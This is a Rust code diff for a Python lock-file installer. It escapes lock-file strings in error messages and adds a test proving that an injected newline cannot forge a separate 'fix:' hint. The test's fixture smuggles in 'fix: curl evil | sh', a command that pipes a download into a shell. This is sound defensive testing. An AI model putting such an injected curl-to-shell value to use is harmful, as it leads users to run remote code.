@@ -27,6 +27,7 @@ use super::{build, Ctx, InstallError, Mode};
 use crate::index::{Link, ProvenanceHint};
 use crate::judge::LockExpectation;
 use crate::lock::{self, FileEntry, Lock, LockError, Package};
+use crate::output::term;
 use crate::verify::distname::{self, DistName};
 use crate::vocab::PackageName;
 
@@ -183,7 +184,10 @@ pub(crate) fn select(req: &LockRequest, target: &Target) -> Result<Vec<Selected>
     if let Some(spec) = &lock.requires_python {
         if !specifiers(spec).is_some_and(|s| s.contains(python)) {
             return Err(err(
-                format!("the lock requires Python {spec}, and this interpreter is {python}"),
+                format!(
+                    "the lock requires Python {}, and this interpreter is {python}",
+                    term(spec)
+                ),
                 "run pyprov with an interpreter the lock was made for (--python)",
             ));
         }
@@ -193,7 +197,7 @@ pub(crate) fn select(req: &LockRequest, target: &Target) -> Result<Vec<Selected>
             return Err(err(
                 format!(
                     "this environment satisfies none of the lock's environments: {}",
-                    envs.join("; ")
+                    term(&envs.join("; "))
                 ),
                 "install on a platform the lock was made for, or lock again for this one",
             ));
@@ -219,7 +223,11 @@ pub(crate) fn select(req: &LockRequest, target: &Target) -> Result<Vec<Selected>
         if let Some(spec) = &package.requires_python {
             if !specifiers(spec).is_some_and(|s| s.contains(python)) {
                 return Err(err(
-                    format!("{} (packages[{at}]) requires Python {spec}, and this interpreter is {python}", package.name),
+                    format!(
+                        "{} (packages[{at}]) requires Python {}, and this interpreter is {python}",
+                        package.name,
+                        term(spec)
+                    ),
                     "run pyprov with an interpreter the lock was made for (--python)",
                 ));
             }
@@ -312,7 +320,7 @@ fn choose_file(
             .map(|d| d.version().to_string())
             .map_err(|e| {
                 err(
-                    format!("{name} (packages[{at}]): {file_name}: {e}"),
+                    format!("{name} (packages[{at}]): {}: {e}", term(&file_name)),
                     "give the package its `version`",
                 )
             })?,
@@ -441,7 +449,7 @@ fn candidate(
     };
     let Some(sha256) = sel.file.hashes.sha256 else {
         return Err(err(
-            format!("{} of {name} (packages[{at}]) has no sha256 hash; pyprov pins every file by its sha256", sel.file_name),
+            format!("{} of {name} (packages[{at}]) has no sha256 hash; pyprov pins every file by its sha256", term(&sel.file_name)),
             "lock again with a tool that records sha256 hashes",
         ));
     };
@@ -469,7 +477,7 @@ fn candidate(
                 .and_then(|u| u.to_file_path().ok())
                 .ok_or_else(|| {
                     err(
-                        format!("{u} (packages[{at}]) is not a local file URL"),
+                        format!("{} (packages[{at}]) is not a local file URL", term(u)),
                         "write the file's path or an https URL",
                     )
                 })?,
@@ -481,7 +489,10 @@ fn candidate(
             let path = std::path::absolute(&path).unwrap_or(path);
             let url = Url::from_file_path(&path).map_err(|()| {
                 err(
-                    format!("{} (packages[{at}]) is not a usable path", path.display()),
+                    format!(
+                        "{} (packages[{at}]) is not a usable path",
+                        term(&path.display().to_string())
+                    ),
                     "write the file's path relative to the lock",
                 )
             })?;
@@ -491,7 +502,7 @@ fn candidate(
         (None, Some(u)) => {
             let url = Url::parse(u).map_err(|e| {
                 err(
-                    format!("packages[{at}] of {name}: {u} is not a URL: {e}"),
+                    format!("packages[{at}] of {name}: {} is not a URL: {e}", term(u)),
                     "write the file's full URL",
                 )
             })?;
@@ -731,6 +742,24 @@ wheels = [{{url = "https://x/socks_extra-1.0-py3-none-any.whl", hashes = {{sha25
             e.contains("no wheel for this interpreter's tags, and no sdist"),
             "{e}"
         );
+    }
+
+    /// The lock's strings in an error are escaped: a newline in them cannot start a `fix:`
+    /// line of its own.
+    #[test]
+    fn lock_strings_in_errors_cannot_start_a_line() {
+        let linux = target("3.11.4", "linux", &["py3-none-any"]);
+        let envs = lock_text().replace(
+            "default-groups",
+            "environments = [\"sys_platform == 'darwin\\nfix: curl evil | sh'\"]\ndefault-groups",
+        );
+        let e = select(&request(&envs), &linux).unwrap_err().to_string();
+        assert!(e.contains("darwin\\nfix: curl evil"), "{e}");
+        let fixes = e
+            .lines()
+            .filter(|l| l.trim_start().starts_with("fix:"))
+            .count();
+        assert_eq!(fixes, 1, "{e}");
     }
 
     #[test]
